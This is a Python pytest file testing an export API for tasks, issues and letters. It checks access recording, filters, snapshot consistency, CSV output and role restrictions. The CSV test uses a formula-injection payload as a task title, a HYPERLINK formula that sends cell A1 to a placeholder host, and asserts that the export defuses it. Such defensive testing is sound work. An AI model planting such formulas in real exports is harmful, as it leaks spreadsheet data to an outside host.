"""A whole list at once: it is what the pages of the list say, and that it left the node is recorded."""

import csv
from typing import Any

import pytest

from domain.access import Accessed, AccessRecorded
from domain.authority import Role
from projections.engine import paging
from tests.integration.api.conftest import Api


def caught_up(api: Api) -> int:
    position = api.node.log.head()
    assert api.node.views.wait_for(position, 10)
    return position


def last(api: Api) -> object:
    head = api.node.log.head()
    return api.node.log.read(head - 1, 1)[0].envelope.payload


def test_a_list_at_once_has_what_its_pages_have(api: Api, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("services.exchange.exports.LARGEST", 2)
    for number in range(5):
        assert api.assign(f"任务{number}").status_code == 201
    position = caught_up(api)
    whole = api.get("/v1/exports/tasks", params={"as_of": position}).json()
    page = api.get("/v1/tasks", params={"limit": 500, "as_of": position}).json()
    assert whole == page


@pytest.mark.parametrize("name", ["issues", "tasks", "letters"])
def test_that_a_list_leaves_is_recorded_before_it_is_answered(api: Api, name: str) -> None:
    caught_up(api)
    headers = {"Access-Purpose": "annual report"}
    answer = api.get(f"/v1/exports/{name}", headers=headers)
    assert answer.status_code == 200, answer.text
    recorded = last(api)
    assert isinstance(recorded, AccessRecorded)
    assert (recorded.accessed, recorded.address) == (Accessed.EXPORT, f"/v1/exports/{name}")
    assert (recorded.rows, recorded.purpose) == (answer.json()["total"], "annual report")


def test_an_export_can_be_narrowed_and_is_as_of_any_moment(api: Api) -> None:
    before = caught_up(api)
    assert api.assign("很新的任务").status_code == 201
    caught_up(api)
    titles = [
        [item["task"]["title"] for item in api.get("/v1/exports/tasks", params=query).json()["items"]]
        for query in ({"status": "open"}, {"as_of": before})
    ]
    assert ["很新的任务" in each for each in titles] == [True, False]
    assert api.get("/v1/exports/tasks", params={"status": "recalled"}).json()["items"] == []
    assert api.get("/v1/exports/letters", params={"year": 2019, "status": "issued"}).json()["total"] == 0


@pytest.mark.parametrize("query", [{"limit": "5"}, {"colour": "red"}, {"status": "done"}])
def test_a_parameter_that_nobody_knows_is_refused(api: Api, query: dict[str, str]) -> None:
    head = caught_up(api)
    assert api.get("/v1/exports/tasks", params=query).status_code == 422
    assert api.node.log.head() == head


def test_a_list_stands_as_it_was_when_it_was_asked_for_however_the_log_moves_meanwhile(
    api: Api, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr("services.exchange.exports.LARGEST", 1)
    ids = [api.assign(f"任务{number}").json()["id"] for number in range(3)]
    caught_up(api)
    read, pages = paging.page, list[Any]()

    def moved(*arguments: Any) -> Any:
        pages.append(read(*arguments))
        if len(pages) == 1:
            assert api.post(f"/v1/tasks/{ids[2]}/recall", {"reason": "重复"}).is_success
            assert api.assign("后来的任务").status_code == 201
            caught_up(api)
        return pages[-1]

    monkeypatch.setattr("projections.engine.paging.page", moved)
    answer = api.get("/v1/exports/tasks").json()
    told = [item["task"]["id"] for item in answer["items"]]
    assert (told[-3:], answer["total"], len(pages)) == (ids, len(told), len(told))
    assert answer["items"][-1]["task"]["status"] == "open"


def test_a_list_is_csv_for_who_asks_for_it(api: Api) -> None:
    assert api.assign('=HYPERLINK("http://x.example/?"&A1,"看")').status_code == 201
    caught_up(api)
    answer = api.get("/v1/exports/tasks", headers={"Accept": "text/csv", "Accept-Language": "zh"})
    assert answer.headers["content-type"].startswith("text/csv")
    assert answer.content.startswith(b"\xef\xbb\xbf")
    headings, *_, row = csv.reader(answer.content.decode("utf-8-sig").splitlines())
    told = dict(zip(headings, row, strict=True))
    assert (told["任务"], told["状态"]) == ('\'=HYPERLINK("http://x.example/?"&A1,"看")', "办理中")


def test_an_export_is_for_readers(api: Api) -> None:
    head = caught_up(api)
    answer = api.client.get("/v1/exports/tasks", headers=api.as_(Role.OFFICER))
    assert (answer.status_code, api.node.log.head()) == (403, head)
